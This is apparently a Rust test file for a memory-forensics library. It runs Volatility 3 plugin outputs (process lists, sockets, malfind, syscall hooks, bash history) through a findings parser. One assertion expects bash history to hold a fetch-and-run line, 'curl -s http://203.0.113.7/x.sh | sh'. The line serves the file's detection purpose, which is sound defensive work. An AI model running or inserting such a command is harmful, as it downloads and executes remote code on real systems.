//! Volatility 3's real JSON output shapes (see fixtures/volatility/README.md)
//! through the parser and the findings.

use firebreak_forensics::volatility::{findings, kernel_release, parse_banners, Severity};
use serde_json::Value;

fn fixture(name: &str) -> String {
    std::fs::read_to_string(format!(
        "{}/tests/fixtures/volatility/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn json(name: &str) -> Value {
    serde_json::from_str(&fixture(name)).unwrap()
}

#[test]
fn banners_from_a_real_run_name_the_kernel_at_its_offsets() {
    let b = parse_banners(&json("banners.json")).unwrap();
    assert_eq!(b.len(), 2, "{b:?}");
    assert_eq!(b[0].offset, 0x1f2a40);
    assert!(b[0].banner.starts_with("Linux version "), "{}", b[0].banner);
    assert!(kernel_release(&b[0].banner).is_some());
    assert!(parse_banners(&json("banners-empty.json"))
        .unwrap()
        .is_empty());
}

#[test]
fn a_run_without_symbols_prints_no_json() {
    assert!(serde_json::from_str::<Value>(&fixture("pslist-no-symbols.stdout.txt")).is_err());
    assert!(fixture("pslist-no-symbols.stdout.txt").contains("symbol_table_name"));
}

#[test]
fn every_plugin_fixture_parses_into_findings() {
    for (plugin, file) in [
        ("linux.pslist.PsList", "linux.pslist.PsList.json"),
        ("linux.pstree.PsTree", "linux.pstree.PsTree.json"),
        ("linux.bash.Bash", "linux.bash.Bash.json"),
        ("linux.lsmod.Lsmod", "linux.lsmod.Lsmod.json"),
        ("linux.sockstat.Sockstat", "linux.sockstat.Sockstat.json"),
        (
            "linux.malware.malfind.Malfind",
            "linux.malfind.Malfind.json",
        ),
        (
            "linux.malware.check_syscall.Check_syscall",
            "linux.check_syscall.Check_syscall.json",
        ),
    ] {
        let f = findings(plugin, &json(file), &[]).unwrap_or_else(|e| panic!("{plugin}: {e}"));
        for x in &f {
            assert_eq!(x.source, plugin);
        }
    }
}

#[test]
fn hooked_system_calls_are_high_severity_findings() {
    let f = findings(
        "linux.malware.check_syscall.Check_syscall",
        &json("linux.check_syscall.Check_syscall.json"),
        &[],
    )
    .unwrap();
    assert_eq!(f.len(), 3, "{f:#?}");
    assert!(f.iter().all(|x| x.severity == Severity::High));
}

#[test]
fn a_socket_held_by_several_threads_is_one_finding_and_addresses_are_hex() {
    let f = findings(
        "linux.sockstat.Sockstat",
        &json("linux.sockstat.Sockstat.json"),
        &[],
    )
    .unwrap();
    let shells: Vec<_> = f.iter().filter(|x| x.title.contains("a shell")).collect();
    assert_eq!(shells.len(), 1, "{f:#?}");
    let m = findings(
        "linux.malware.malfind.Malfind",
        &json("linux.malfind.Malfind.json"),
        &[],
    )
    .unwrap();
    assert!(m[0].detail.contains("0x7f3c"), "{m:#?}");
    let bash = findings("linux.bash.Bash", &json("linux.bash.Bash.json"), &[]).unwrap();
    assert!(bash
        .iter()
        .any(|x| x.detail.contains("curl -s http://203.0.113.7/x.sh | sh")));
}
